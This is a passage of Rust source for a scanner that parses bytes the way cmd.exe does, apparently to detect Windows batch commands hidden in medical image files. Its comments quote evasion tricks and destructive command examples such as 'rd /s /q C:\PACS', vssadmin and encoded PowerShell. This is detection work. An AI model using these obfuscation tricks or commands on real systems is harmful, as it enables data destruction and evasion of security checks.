/// which it reads as one) or an operator (`&`, `|`: what follows is another command).
/// A candidate starts after each, so a read that stops at every one is linear however
/// many a line holds (review rv36-screen: words read on past Ctrl-Z made `\x1aa`
/// repeated quadratic, 32 KB 20 s of CPU).
fn is_command_end(b: u8) -> bool {
    matches!(b, b'\n' | CTRL_Z | b'&' | b'|')
}

/// Whether `b` ends a program's name or an argument's word to cmd.exe: a delimiter, a
/// carriage return, a redirection, or the command's end ([`is_command_end`]).
fn ends_word(b: u8) -> bool {
    is_token_delimiter(b) || is_command_end(b) || matches!(b, b'\r' | b'<' | b'>')
}

/// How many bytes of `rest` its command holds before the byte that ends it, as cmd.exe
/// reads it ([`command_extent`]), or all of them.
fn command_len(rest: &[u8]) -> usize {
    command_extent(rest).end
}

/// Where the command at the start of some bytes ends, as cmd.exe reads it
/// ([`command_extent`]).
struct Extent {
    /// The index of the byte that ends it (a line feed, a Ctrl-Z, an operator), or
    /// where the read stopped.
    end: usize,
    /// The bytes of its view: to that byte, kept (where the next candidate starts).
    view_end: usize,
    /// Whether a carriage return stands inside it, not only before a line feed.
    crs_inside: bool,
    /// The bound of the read reached before the command's end, if one was.
    limit: Option<ViewLimit>,
}

/// A bound [`command_extent`] reached before a command's end: the rest of the command
/// is not known, said as a `not-inspected` warning.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum ViewLimit {
    /// More lines joined by a caret than [`MAX_BATCH_NAME_CONTINUATIONS`].
    Continuations,
    /// More separators read past than [`MAX_CMD_PASSED_SEPARATORS`].
    Separators,
    /// More bytes than [`MAX_CMD_LINE_RAW_BYTES`].
    RawBytes,
}

impl ViewLimit {
    fn said(self) -> &'static str {
        match self {
            ViewLimit::Continuations => {
                "runs on over more lines joined by a caret than the 16 read (MAX_BATCH_NAME_CONTINUATIONS)"
            }
            ViewLimit::Separators => {
                "holds more quoted or escaped separators (`\"a&b\"`, `^&`, `2>&1`) than the 32 read past (MAX_CMD_PASSED_SEPARATORS)"
            }
            ViewLimit::RawBytes => {
                "runs past the 1 MiB read of one command, carriage returns included (MAX_CMD_LINE_RAW_BYTES)"
            }
        }
    }
}

/// Where the command at the start of `rest` ends, decided on the line as cmd.exe reads
/// it (review of session 37, A1 and A3): its carriage returns deleted first, then an
/// operator (`&`, `|`) outside quotes and not escaped by a caret, and no `&` right after
/// a redirection's `<` or `>` (`2>&1`, `2><CR>&1` too: the handle it duplicates), a
/// line feed not escaped (a caret last on a line joins the next, whose first byte is
/// taken as written), or a Ctrl-Z. No more than cmd.exe reads of a line
/// ([`CMD_LINE_LIMIT`], counted without the CRs), nor than
/// [`MAX_CMD_LINE_RAW_BYTES`], [`MAX_BATCH_NAME_CONTINUATIONS`] lines and
/// [`MAX_CMD_PASSED_SEPARATORS`] separators read past (each starts a candidate of its
/// own whose view runs on: the bound keeps every byte in a bounded number of views).
fn command_extent(rest: &[u8]) -> Extent {
    let mut quoted = false;
    let mut escaped = false;
    let mut after_redirection = false;
    let mut pending_cr = false;
    let mut crs_inside = false;
    let mut kept = 0usize;
    let mut continuations = 0usize;
    let mut passed = 0usize;
    let stop = |end: usize, view_end: usize, crs_inside: bool, limit: Option<ViewLimit>| Extent {
        end,
        view_end,
        crs_inside,
        limit,
    };
    for (at, &b) in rest.iter().enumerate() {
        if at == MAX_CMD_LINE_RAW_BYTES {
            return stop(at, at, crs_inside, Some(ViewLimit::RawBytes));
        }
        if b == b'\r' {
            pending_cr = true;
            continue;
        }
        // Past cmd.exe's line limit: no part of the command.
        if kept == CMD_LINE_LIMIT {
            return stop(at, at, crs_inside, None);
        }
        kept += 1;
        // (An empty line after one is an escaped line feed: it joins the line after it
        // too, as a program's name is read, `p^<LF><LF>owershell`.)
        if is_line_feed(b) && escaped {
            // A caret's line continuation: the next line's first byte is escaped.
            pending_cr = false;
            if continuations == MAX_BATCH_NAME_CONTINUATIONS {
                return stop(at, at + 1, crs_inside, Some(ViewLimit::Continuations));
            }
            continuations += 1;
            continue;
        }
        if b == b'\n' || b == CTRL_Z {
            return stop(at, at + 1, crs_inside, None);
        }
        crs_inside |= pending_cr;
        pending_cr = false;
        let duplicates_handle = std::mem::replace(&mut after_redirection, false);
        let ends_here = !quoted && !escaped && (b == b'|' || (b == b'&' && !duplicates_handle));
        let was_escaped = std::mem::replace(&mut escaped, false);
        match b {
            b'&' | b'|' if ends_here => return stop(at, at + 1, crs_inside, None),
            // Read past: quoted, escaped (`^&`: review rv39, never counted, and each
            // `&` a candidate of its own, so `^&` and CRs repeated were quadratic) or a
            // handle's (`2>&1`).
            b'&' | b'|' => {
                passed += 1;
                if passed > MAX_CMD_PASSED_SEPARATORS {
                    return stop(at, at + 1, crs_inside, Some(ViewLimit::Separators));
                }
            }
            _ if was_escaped => {}
            b'"' => quoted = !quoted,
            b'^' if !quoted => escaped = true,
            b'<' | b'>' if !quoted => after_redirection = true,
            _ => {}
        }
    }
    stop(rest.len(), rest.len(), crs_inside, None)
}

/// `rest` to its command's end, the byte that ends it kept (where the next candidate
/// starts).
fn to_command_end(rest: &[u8]) -> &[u8] {
    &rest[..(command_len(rest) + 1).min(rest.len())]
}

/// cmd.exe's token delimiters (documented in the analyses of its parser): besides space
/// and tab, `;`, `,`, `=`, vertical tab (0x0B), form feed (0x0C) and 0xFF. Any of them
/// before a command's name is skipped as a blank is, and any of them ends the name.
fn is_token_delimiter(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b';' | b',' | b'=' | 0x0B | 0x0C | 0xFF)
}

/// The bytes a command [`batch_command_at`] can find starts with: what cmd.exe skips
/// before a program ([`program_start`]: blanks, `@`, `;`, `,`, `=`, `(`, a redirection's
/// `<` or `>`, the `c`, `i` and `f` of `call`, `if` and `for`), the first letter or digit of a program's name (every
/// letter and digit, in both cases), the caret and quote cmd.exe removes from a program's
/// name, what a path starts with (a drive letter, `\\`, `%`), and the bytes past ASCII
/// a name in the console's code page starts with (`\x82vil.exe`, review r25-screen).
const BATCH_COMMAND_START: [bool; 256] = {
    let mut table = [false; 256];
    let starts: &[u8] = b" \t\r@;,=()^\"cifCIF%!\\.<>\x0b\x0c\xff";
    let mut i = 0;
    while i < starts.len() {
        table[starts[i] as usize] = true;
        i += 1;
    }
    // A program named by its path starts with its drive letter (`program_by_path`), and
    // any program named with its extension (`1.exe`) with a letter or a digit.
    let mut b = b'0';
    while b <= b'9' {
        table[b as usize] = true;
        b += 1;
    }
    let mut b = b'A';
    while b <= b'Z' {
        table[b as usize] = true;
        table[b.to_ascii_lowercase() as usize] = true;
        b += 1;
    }
    let mut b = 0x80;
    while b < 0xFF {
        table[b] = true;
        b += 1;
    }
    let mut i = 0;
    while i < BATCH.len() {
        let first = BATCH[i][0];
        table[first.to_ascii_lowercase() as usize] = true;
        table[first.to_ascii_uppercase() as usize] = true;
        i += 1;
    }
    table
};

/// The lowest byte [`BATCH_COMMAND_START`] holds: a separator followed by a lower byte
/// starts no command (the table's own answer, computed from it).
const LOWEST_BATCH_COMMAND_START: u8 = pairs::lowest(&BATCH_COMMAND_START);

/// The command that starts at `at` (after a line's start or an operator), if its program
/// is one [`batch_program`] knows.
fn batch_command_at(
    bytes: &[u8],
    at: usize,
    variables: &mut Variables,
    blocks: &mut Blocks,
    binary: Binary<'_>,
) -> Option<Command> {
    #[cfg(test)]
    tests::LOOKED_AT.with(|n| n.set(n.get() + 1));
    // Every rule below reads the command as cmd.exe reads it, its carriage returns
    // deleted first (the `for`, `call`, `if` and `set` before the program, the set of a
    // `for /f`, the name and its arguments): one view of the line ([`CmdLine`]).
    let line = CmdLine::read(bytes.get(at..)?);
    let ProgramStart {
        at: skip,
        set_command,
        keyword,
    } = program_start_and_set_command(&line.text);
    let in_block = blocks.open_at(bytes, at, at + line.offset(skip));
    // The command of a `for /f` set runs before the loop's body: judged first, as a
    // command of its own (not again for a `for /f` inside it: one level, linear).
    if let Some(set) = set_command
        && let Some(found) = command_at(bytes, at, &line, set, variables, in_block, binary, true)
    {
        return Some(found);
    }
    // `call`, `if`, `for`: a command word before the program, which chance bytes do not
    // spell (see [`truly_bare`]).
    let found = command_at_each_value(bytes, at, &line, skip, variables, in_block, binary, keyword);
    match (found, line.limit) {
        (Some(found), _) if !by_chance(&found) => Some(found),
        // What cmd.exe reads past the bound is not known: never silence, where what
        // lies past it can matter (a switch of a program known here, an expanded name,
        // the `else` branch of an `if` or anything an `if`, `for` or `call` read before
        // the program: review rv39, `if exist x (echo "&…×33") else powershell -enc …`).
        (found, Some(limit))
            if found.is_some()
                || keyword
                || may_be_known_program(line.text.get(skip..).unwrap_or(&[])) =>
        {
            let past = at + line.offset(line.text.len());
            Some(Command {
                offset: at,
                interpreter: "batch",
                severity: Severity::Warning,
                kind: FindingKind::NotInspected,
                detail: format!(
                    "a Windows command line (\"{}\") that {}, up to offset {past}: what cmd.exe reads of it past there{}, and the batch commands after it, were not inspected",
                    line_excerpt(bytes, at),
                    limit.said(),
                    if found.is_some() {
                        " (its start is a bare name alone on its line, as chance bytes make one)"
                    } else {
                        ""
                    },
                ),
            })
        }
        (found, _) => found,
    }
}

/// Whether the first word of `text` may be a program [`BATCH`] knows, a name built by
/// `%` expansion, or a runnable file's name: only then can what a view cut short by a
/// bound leaves unread change a judgement (a switch past it). Another program's
/// arguments change nothing, and each operator after it starts a candidate of its own.
/// Review of session 38's merge: the pixel data of real images re-compressed inside a
/// window held more escaped separators than `MAX_CMD_PASSED_SEPARATORS` after a chance
/// `&`, a `not-inspected` warning on an honest store.
fn may_be_known_program(text: &[u8]) -> bool {
    let end = text
        .iter()
        .position(|&b| is_token_delimiter(b) || matches!(b, b'\n' | b'<' | b'>' | b'&' | b'|'))
        .unwrap_or(text.len());
    // The view ends inside its first word: the name itself is not known.
    if end == text.len() {
        return true;
    }
    // The whole word is read (the view is bounded by `MAX_CMD_LINE_RAW_BYTES`), never its
    // start alone: a known tool may end a long path, and a long run of pixel bytes
    // without a delimiter is no name (session 38's reread took any word longer than 260
    // bytes for a name not known, a `not-inspected` warning on real RLE pixel data).
    let word = &text[..end];
    let kept: Vec<u8> = word
        .iter()
        .filter(|&&b| !matches!(b, b'^' | b'"' | b'\r'))
        .take(BATCH_NAME_COMPARED + 1)
        .copied()
        .collect();
    // A command that runs another (`if`, `for`, `call`) whose condition, set or
    // program the bound cut: what runs is not known (review rv39: `if not "&…×33"==""
    // rd /s /q C:\PACS` and `for %%a in ("&…×33") do vssadmin …` were clean).
    if RUNS_ANOTHER.iter().any(|k| k.eq_ignore_ascii_case(&kept)) {
        return true;
    }
    // No file name holds a control byte, whatever expands beside it: pixel bytes.
    if word.iter().any(|&b| (b < 0x20 && b != b'\r') || b == 0x7f) {
        return false;
    }
    // A name built by expansion (`%p%`, `!p!`) is known only when it runs.
    if builds_a_name(word) {
        return true;
    }
    // The file name cmd.exe looks for: the word's last path component.
    let name_from = word
        .iter()
        .rposition(|&b| b == b'\\' || b == b'/')
        .map_or(0, |at| at + 1);
    let name: Vec<u8> = word[name_from..]
        .iter()
        .filter(|&&b| !matches!(b, b'^' | b'"' | b'\r'))
        .take(BATCH_NAME_COMPARED + 1)
        .map(u8::to_ascii_lowercase)
        .collect();
    let name = without_program_extension(&name);
    BATCH.iter().any(|tool| tool.eq_ignore_ascii_case(name)) || first_word_is_runnable(text)
}

/// The words cmd.exe reads before the command they run ([`program_start_and_set_command`]).
const RUNS_ANOTHER: [&[u8]; 3] = [b"if", b"for", b"call"];

/// Whether `word` holds a variable cmd.exe expands into (part of) a name: `%name%`,
/// `!name!` (a name of letters, digits, `_`, `-`, `.`, `$`, `#`), `%1`–`%9`, `%*`, `%~…`,
/// a `for` variable `%%a`.
/// `%%` is a literal `%` and `!!`, `%%%` or `%+` expand nothing: a run of gray pixel
/// bytes spelling `!!!%%%+++111` is no name (review rv39: a real ultrasound image
/// decompressed with `gdcmconv --raw` got a `not-inspected` warning from it).
fn builds_a_name(word: &[u8]) -> bool {
    let name_byte =
        |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'$' | b'#');
    let mut at = 0;
    while at < word.len() {
        let mark = word[at];
        if mark != b'%' && mark != b'!' {
            at += 1;
            continue;
        }
        let rest = &word[at + 1..];
        if mark == b'%' && matches!(rest.first(), Some(b'1'..=b'9' | b'*' | b'~')) {
            return true;
        }
        // `%%a`: a `for` loop's variable.
        if mark == b'%'
            && rest.first() == Some(&b'%')
            && rest.get(1).is_some_and(u8::is_ascii_alphabetic)
        {
            return true;
        }
        let name = rest.iter().take_while(|&&b| name_byte(b)).count();
        if name > 0 && rest.get(name) == Some(&mark) {
            return true;
        }
        // `%%`: a literal `%`, both read.
        at += if mark == b'%' && rest.first() == Some(&b'%') {
            2
        } else {
            1
        } + name;
    }
    false
}

/// The most of a name [`may_be_known_program`] keeps to compare with [`BATCH`]: more
/// than its longest name with `.exe` (checked below), so a longer one never matches.
const BATCH_NAME_COMPARED: usize = 64;
const _: () = {
    let mut i = 0;
    while i < BATCH.len() {
        assert!(BATCH[i].len() + b".exe".len() <= BATCH_NAME_COMPARED);
        i += 1;
    }
};

/// A command as cmd.exe reads it: every carriage return deleted, which it does once `%`
/// is expanded and before it reads anything else of the line (carets, quotes,
/// operators, redirections, `call`, `if`, `for /f`, `set`: phase 1.5 of its parser in
/// the analyses of it; session 35: `r<CR>d /s /q C:\x` is `rd /s /q C:\x`; session
/// 37: `fo<CR>r /f`, `s<CR>et p=…`, `"ev<CR>il.exe"`, `c<CR>all x`). Read once per
/// candidate and by every rule, to the command's end as cmd.exe finds it on the line
/// without its CRs ([`command_extent`], session 38: an operator outside quotes and not
/// escaped, never the `&` of `2><CR>&1`; a line feed no caret escapes, over at most
/// [`MAX_BATCH_NAME_CONTINUATIONS`] continued lines; no more than cmd.exe reads of a line,
/// [`CMD_LINE_LIMIT`] counted without the CRs), the byte that ends it kept (where the
/// next candidate starts). A command holding no carriage return but those before a line
/// feed is the bytes as they are; one holding one inside is a copy without them. Each
/// byte is read for a bounded number of commands: the raw bytes of one are bounded by
/// [`MAX_CMD_LINE_RAW_BYTES`], the separators it reads past by
/// [`MAX_CMD_PASSED_SEPARATORS`] (each a candidate of its own), and reaching either is a
/// `not-inspected` warning ([`ViewLimit`]). A binary value's start, a candidate of its
/// own, is read to the value's end at most ([`search_batch`]).
///
/// cmd.exe deletes them after `%` expansion, this view before it: a variable's name
/// with a CR inside (`%p<CR>x%`) is read as `%px%` (a value set never holds one: its
/// `set` line is read without them too).
struct CmdLine<'b> {
    /// The command's bytes as cmd.exe reads them.
    text: std::borrow::Cow<'b, [u8]>,
    /// Where carriage returns were deleted: the index in `text` of the byte after them,
    /// and how many were deleted up to there, ascending.
    deleted: Vec<(usize, usize)>,
    /// The bound reached before the command's end, if one was ([`command_extent`]).
    limit: Option<ViewLimit>,
}

impl<'b> CmdLine<'b> {
    fn read(line: &'b [u8]) -> Self {
        let extent = command_extent(line);
        #[cfg(test)]
        tests::CARRIAGE_READ.with(|n| n.set(n.get() + extent.view_end + 1));
        let view = &line[..extent.view_end];
        if !extent.crs_inside {
            return CmdLine {
                text: std::borrow::Cow::Borrowed(view),
                deleted: Vec::new(),
                limit: extent.limit,
            };
        }
        let mut text = Vec::with_capacity(view.len());
        let mut deleted: Vec<(usize, usize)> = Vec::new();
        let mut gone = 0;
        for &b in view {
            if b == b'\r' {
                gone += 1;
                continue;
            }
            if deleted.last().map_or(0, |&(_, before)| before) < gone {
                deleted.push((text.len(), gone));
            }
            text.push(b);
        }
        CmdLine {
            text: std::borrow::Cow::Owned(text),
            deleted,
            limit: extent.limit,
        }
    }

    /// Where the byte at `at` in the view stands in the bytes read.
    fn offset(&self, at: usize) -> usize {
        let before = self.deleted.partition_point(|&(after, _)| after <= at);
        at + before.checked_sub(1).map_or(0, |i| self.deleted[i].1)
    }
}

/// [`command_at`] with each value its variables take somewhere in the file (see
/// [`MAX_VARIABLE_VALUES_TRIED`]): the first alert, else what the line as read in file
/// order gave, else a warning when more values were there than were tried.
#[allow(clippy::too_many_arguments)]
fn command_at_each_value(
    bytes: &[u8],
    at: usize,
    line: &CmdLine<'_>,
    from: usize,
    variables: &mut Variables,
    in_block: bool,
    binary: Binary<'_>,
    keyword: bool,
) -> Option<Command> {
    variables.choice = 0;
    variables.alternatives = 0;
    let first = command_at(bytes, at, line, from, variables, in_block, binary, keyword);
    let values = std::mem::take(&mut variables.alternatives);
    if values == 0
        || first
            .as_ref()
            .is_some_and(|f| f.severity == Severity::Alert)
    {
        return first;
    }
    let mut found = None;
    for choice in 1..=values.min(MAX_VARIABLE_VALUES_TRIED) {
        // Each try reads the line again: its bytes are charged to the expansion's
        // budget, so the tries of a whole file cost at most MAX_EXPANDED_BYTES of
        // reading (80,000 lines of two values each were read twice over without it).
        if variables.spent || !variables.charge(line.text.len()) {
            variables.choice = 0;
            variables.alternatives = 0;
            return first.or_else(|| Some(expansion_spent(bytes, at)));
        }
        variables.choice = choice;
        let tried = command_at(bytes, at, line, from, variables, in_block, binary, keyword);
        if let Some(alert) = tried.filter(|f| f.severity == Severity::Alert) {
            found = Some(alert);
            break;
        }
    }
    variables.choice = 0;
    variables.alternatives = 0;
    found.or(first).or_else(|| {
        (values > MAX_VARIABLE_VALUES_TRIED).then(|| Command {
            offset: at,
            interpreter: "batch",
            severity: Severity::Warning,
            kind: FindingKind::NotInspected,
            detail: format!(
                "a Windows command line (\"{}\") whose variables the file sets to more values than the {MAX_VARIABLE_VALUES_TRIED} tried (MAX_VARIABLE_VALUES_TRIED): a `goto` may run it with any of them, and the others were not inspected",
                line_excerpt(bytes, at)
            ),
        })
    })
}

/// The command whose program starts at `from` in `line` (the command starting at `at`
/// in `bytes`, as cmd.exe reads it: [`CmdLine`]; past what [`program_start`] skips), if
/// its program is one [`batch_program`] knows; `in_block` when a `(` block is open there.
#[allow(clippy::too_many_arguments)]
fn command_at(
    bytes: &[u8],
    at: usize,
    line: &CmdLine<'_>,
    from: usize,
    variables: &mut Variables,
    in_block: bool,
    binary: Binary<'_>,
    keyword: bool,
) -> Option<Command> {
    // Nothing to skip where `batch_command_at` skipped it already; a set's command
    // (`('@call powershell …')`) is read past its own `@` and `call`.
    let text = line.text.get(from..)?;
    let skip = program_start(text);
    let start = &text[skip..];
    if !may_name_a_program(start) {
        return None;
    }
    #[cfg(test)]
    tests::READ_AS_COMMANDS.with(|n| n.set(n.get() + 1));
    // Where the program starts in the bytes read: what a finding names.
    let offset = at + line.offset(from + skip);
    // The name as written (its CRs deleted), before cmd.exe expands and unescapes it:
    // whether it is truly bare ([`truly_bare`]).
    let written = start;
    // cmd.exe expands `%...%` in a line before it reads the command's name from it:
    // the name is judged as expanded (a copy of this one line, when the name has a
    // `%`), and a name built from a substring or replacement, or from input, is
    // known only when it runs.
    let expanded;
    let arguments_expanded;
    // What the expansion of the arguments left unknown or cut short (a program named
    // by a variable has its arguments expanded too: review of session 41, `set c=copy`
    // then `%c% C:\PACS\*.dcm %s%` was clean, and no bound was said past 16 unset).
    let mut expansion: Option<ExpandedArguments> = None;
    let called = is_called(&line.text[..from + skip]);
    let mut with_arguments = |line: &[u8], variables: &mut Variables| {
        expansion = expand_arguments(bytes, offset, line, variables, called);
        expansion.as_ref().map(|found| found.line.clone())
    };
    if let Some(found) = loop_variable_program(bytes, offset, &line.text[..from + skip], start) {
        return Some(found);
    }
    let start = match expand_program_name(bytes, offset, start, variables) {
        None => match with_arguments(start, variables) {
            Some(line) => {
                arguments_expanded = line;
                &arguments_expanded[..]
            }
            None => start,
        },
        Some(Expanded::Line(line)) => {
            expanded = line;
            let name = &expanded[program_start(&expanded)..];
            match with_arguments(name, variables) {
                Some(line) => {
                    arguments_expanded = line;
                    &arguments_expanded[..]
                }
                None => name,
            }
        }
        Some(Expanded::Spent) => return Some(expansion_spent(bytes, offset)),
        Some(Expanded::Built(how)) => {
            return Some(Command {
                offset,
                interpreter: "batch",
                severity: Severity::Alert,
                kind: FindingKind::ActiveContent,
                detail: format!(
                    "a Windows command line (\"{}\") whose program name cmd.exe builds from {how} when the file is started as a batch file: what it runs is known only then",
                    line_excerpt(bytes, offset)
                ),
            });
        }
    };
    // Most lines of binary data start with no program name's first byte: one compare
    // instead of a list.
    let first = *start.first()?;
    // A name starting past ASCII is a letter of the console's code page to cmd.exe
    // (`\x82vil.exe` is `évil.exe`, run as any name is): half the lines of pixel data
    // start with such a byte, so it is looked at when its first word ends with an
    // extension Windows runs (review r25-screen: it was looked at only quoted or by its
    // path); `batch_program` then asks for a command's syntax, as for any bare name.
    let ascii_start =
        first.is_ascii_alphanumeric() || matches!(first, b'^' | b'"' | b'%' | b'\\' | b'.');
    let past_ascii_program = first >= 0x80 && first_word_is_runnable(start);
    if !(ascii_start || past_ascii_program) {
        return None;
    }
    let chance_bytes = binary.holds(offset);
    // A path without an extension runs through PATHEXT: counted after a command word
    // (`call C:\x\run`, `if exist x C:\x\run`; in binary values the path's name in
    // printable ASCII) or, in text and the preamble, as a UNC path (`\\host\s\run`:
    // in binary values a chance `\\` and a word are over the budget of invariant 11).
    let first_word = &start[..start
        .iter()
        .position(|&b| ends_word(b))
        .unwrap_or(start.len())];
    let after_keyword = keyword || text[..skip].iter().any(u8::is_ascii_alphabetic);
    let pathext = if chance_bytes {
        after_keyword && first_word.iter().all(|b| (0x21..0x7F).contains(b))
    } else {
        after_keyword || (names_remote_host(first_word) && unc_program_path(first_word))
    };
    // The command cmd.exe at the right of a pipe reads its input from (`type x | cmd`).
    let piped = line.text[..from + skip]
        .iter()
        .all(|&b| is_token_delimiter(b) || b == b'\r')
        && at
            .checked_sub(1)
            .is_some_and(|before| bytes[before] == b'|')
        && at.checked_sub(2).is_none_or(|before| bytes[before] != b'|');
    // A program named by its path is matched by its file name (one copy of this
    // line, for a first word that is a rooted path).
    let renamed;
    let by_path = program_by_path(start);
    let named_by_path = by_path.is_some();
    let pathext = pathext && named_by_path;
    let start = match by_path {
        Some(line) => {
            renamed = line;
            &renamed[..]
        }
        None => start,
    };
    // cmd.exe drops its escape character and the quotes in a program's name before it
    // looks the name up: `p^ower^shell`, `"powershell.exe"` run PowerShell. The line
    // is read as cmd.exe reads it (a copy of this one line, when its first word has
    // either: each line at most once).
    let unescaped;
    let start = match unescaped_program_name(start) {
        Ok(Some(line)) => {
            unescaped = line;
            &unescaped[..]
        }
        Ok(None) => start,
        Err(past) => {
            let past = at + line.offset((from + skip + past).min(line.text.len()));
            return Some(Command {
                offset,
                interpreter: "batch",
                severity: Severity::Warning,
                kind: FindingKind::NotInspected,
                detail: format!(
                    "a Windows command line whose program name cmd.exe joins over more than {MAX_BATCH_NAME_CONTINUATIONS} lines ending with a caret (MAX_BATCH_NAME_CONTINUATIONS), up to offset {past}: what it runs, and the batch commands after it, were not inspected",
                ),
            });
        }
    };
    if cmd_line_runs_a_command(start) {
        note_launched_line(bytes, offset, variables);
    } else if variables
        .launched
        .as_ref()
        .is_some_and(|line| line.start < offset && offset < line.end)
        && launched_command(start, chance_bytes)
    {
        return Some(Command {
            offset,
            interpreter: "batch",
            severity: Severity::Alert,
            kind: FindingKind::ActiveContent,
            detail: format!(
                "a Windows command line (\"{}\") after an operator on a line that cmd /c runs: cmd.exe runs it as a command of its own",
                line_excerpt(bytes, offset)
            ),
        });
    }
    let Some((program, alone)) =
        batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)
    else {
        if let Some(found) = loop_variable_argument(bytes, offset, &line.text[..from + skip], start)
        {
            return Some(found);
        }
        let expansion = expansion?;
        if expansion.spent {
            return Some(expansion_spent(bytes, offset));
        }
        if expansion.too_long {
            return Some(line_too_long(bytes, offset));
        }
        if let Some(why) = expansion.unknown {
            return Some(Command {
                offset,
                interpreter: "batch",
                severity: Severity::Warning,
                kind: FindingKind::NotInspected,
                detail: format!(
                    "a Windows command line (\"{}\") whose arguments cmd.exe builds from {why} when the file is started as a batch file: what the tool is given was not inspected",
                    line_excerpt(bytes, offset)
                ),
            });
        }
        // What the variables past the bound hold is not known: never silence.
        return expansion.cut.then(|| Command {
            offset,
            interpreter: "batch",
            severity: Severity::Warning,
            kind: FindingKind::NotInspected,
            detail: format!(
                "a Windows command line (\"{}\") whose arguments hold more variables (%NAME%) than the {MAX_EXPANDED_ARGUMENTS} expanded (MAX_EXPANDED_ARGUMENTS): what the tool is given past them was not inspected",
                line_excerpt(bytes, offset)
            ),
        });
    };
    let interpreter = if matches!(program, b"powershell" | b"pwsh") {
        "powershell"
    } else {
        "batch"
    };
    let mut detail = format!(
        "a Windows command line (\"{}\") that cmd.exe runs if the file is started as a batch file",
        line_excerpt(bytes, offset)
    );
    // An encoded command is base64: what it runs is said in the finding. To the
    // command's end (not the next line feed: past every Ctrl-Z candidate, quadratic).
    let line = &start[..command_len(start)];
    if interpreter == "powershell"
        && let Some(script) = crate::powershell::encoded_command(line)
    {
        let shown: String = script.chars().take(120).collect();
        detail.push_str(&format!(
            ", whose encoded command (-EncodedCommand) PowerShell decodes to \"{}\"{}",
            shown.escape_debug(),
            if crate::powershell::downloads_and_runs(&script) {
                ": it downloads and runs more"
            } else {
                ""
            }
        ));
    }
    let chance = alone
        && chance_bytes
        && truly_bare(
            keyword || text[..skip].iter().any(u8::is_ascii_alphabetic),
            written,
        );
    if chance {
        detail.push_str(BY_CHANCE);
    }
    Some(Command {
        offset,
        interpreter,
        severity: if chance {
            Severity::Warning
        } else {
            Severity::Alert
        },
        kind: FindingKind::ActiveContent,
        detail,
    })
}

/// The warning said where [`MAX_EXPANDED_BYTES`] is reached.
fn expansion_spent(bytes: &[u8], offset: usize) -> Command {
    Command {
        offset,
        interpreter: "batch",
        severity: Severity::Warning,
        kind: FindingKind::NotInspected,
        detail: format!(
            "a Windows command line (\"{}\") whose variables would take the expansion of the file's variables past {MAX_EXPANDED_BYTES} bytes (MAX_EXPANDED_BYTES): it and the lines after it were read with their variables as written, not as cmd.exe expands them",
            line_excerpt(bytes, offset)
        ),
    }
}

/// The most characters of a line cmd.exe reads (Microsoft's "Command prompt line
/// string limitation": 8,191): what lies past it is no part of the command. A line
/// whose expansion is longer cmd.exe refuses ("The input line is too long."): a known
/// tool's line so expanded that makes no alert within the limit is a `not-inspected`
/// warning naming this limit, so that what an attacker pushes past it is said, never
/// silence (how cmd.exe goes on after refusing such a line is not modelled).
pub const CMD_LINE_LIMIT: usize = 8191;

/// The warning for a known tool's line longer than [`CMD_LINE_LIMIT`] once expanded.
fn line_too_long(bytes: &[u8], offset: usize) -> Command {
    Command {
        offset,
        interpreter: "batch",
        severity: Severity::Warning,
        kind: FindingKind::NotInspected,
        detail: format!(
            "a Windows command line (\"{}\") whose variables expand it past the {CMD_LINE_LIMIT} characters cmd.exe reads of a line (CMD_LINE_LIMIT): cmd.exe refuses it as too long, and what lies past the limit was not inspected",
            line_excerpt(bytes, offset)
        ),
    }
}

/// The most bytes read for one command, its carriage returns included: cmd.exe deletes
/// them before it counts a line's characters ([`CMD_LINE_LIMIT`] counts what is left),
/// so `r`, 9,000 CRs, `d /s /q x` is `rd /s /q x` to it (review of session 37, A4). A
/// command whose bytes run past this bound before its end is a `not-inspected` warning
/// naming it. No chance line reaches it: it takes over a million CRs with no line feed.
pub const MAX_CMD_LINE_RAW_BYTES: usize = 1 << 20;

/// The most separators (`&`, `|`) one command's view reads past as bytes of the command
/// (quoted, escaped by a caret, or the `&` of a handle's redirection, `2>&1`): each is
/// also the start of a candidate whose own view runs on, so `"&^"` repeated would
/// otherwise read a whole line from each of its `&` (quadratic). A command running past
/// this many is a `not-inspected` warning naming it; by chance a view needs a quote and
/// then this many separators before the next quote or line feed, about (2/5)^32 a
/// candidate in uniform bytes.
pub const MAX_CMD_PASSED_SEPARATORS: usize = 32;

/// Whether a bare name alone on its line, written `name`, is as chance bytes make it:
/// what cmd.exe skips before it holds no command word (`keyword`:
/// `call`, `if`, `for`: letters chance bytes do not spell), and the name is not quoted
/// (`"evil.exe"`: a quote opening it and another closing it). Review r32-screen: such
/// explicit batch syntax was a warning in binary values. A caret or `%` inside the
/// name is left as chance (one byte of the ~18 of a chance word: ~5e-7 a window as
/// alerts, over the budget of invariant 11).
fn truly_bare(keyword: bool, name: &[u8]) -> bool {
    let line = &name[..memchr::memchr2(b'\r', b'\n', name).unwrap_or(name.len())];
    let quoted = line.first() == Some(&b'"') && line[1..].contains(&b'"');
    !(keyword || quoted)
}

/// Why a bare name alone on its line in binary values is a warning, in its finding.
const BY_CHANCE: &str = ", alone on its line in binary data (Pixel Data or a binary value): a warning, not an alert, since compressed pixel data holds such a line by chance (a line break, a word ending with a runnable extension, a line end or operator: about once in 300,000 blocks of 64 KiB), and cmd.exe runs it only if a file of that name is in its folder or on the PATH";

/// Whether the first word of `start` could name a program once cmd.exe has read it: it
/// holds a letter or a digit (of a name, a path, an extension), a byte past ASCII (a
/// letter of the console's code page), a quote (a quoted name runs to its closing
/// quote, blanks and all), or a `%` or `!` that expands to one. A word of only `\`, `^`,
/// `.`, `@` and such names nothing: one short look instead of the copies and lists of
/// [`batch_command_at`] (review r26-screen: 64 MiB of `\`+newline, `^`+CRLF or `&\`
/// made 32 million such candidates, 55 s of CPU in a debug build).
fn may_name_a_program(start: &[u8]) -> bool {
    // The longer word (a `)` is a byte of it outside a block): every letter of the
    // shorter one is in it.
    start[..name_end(start, false)]
        .iter()
        .any(|&b| b.is_ascii_alphanumeric() || b >= 0x80 || matches!(b, b'"' | b'%' | b'!'))
}

/// Whether `after` (what follows `launcher`'s name) starts with a `/` that ends the name
/// of one of cmd.exe's own commands ([`CMD_BUILTINS`]: cmd.exe parses a built-in's name
/// itself): a switch it takes, then a path on its line (what it deletes or starts). The
/// path is asked for: a name and a `/` glued are fewer bytes of chance than a name and a
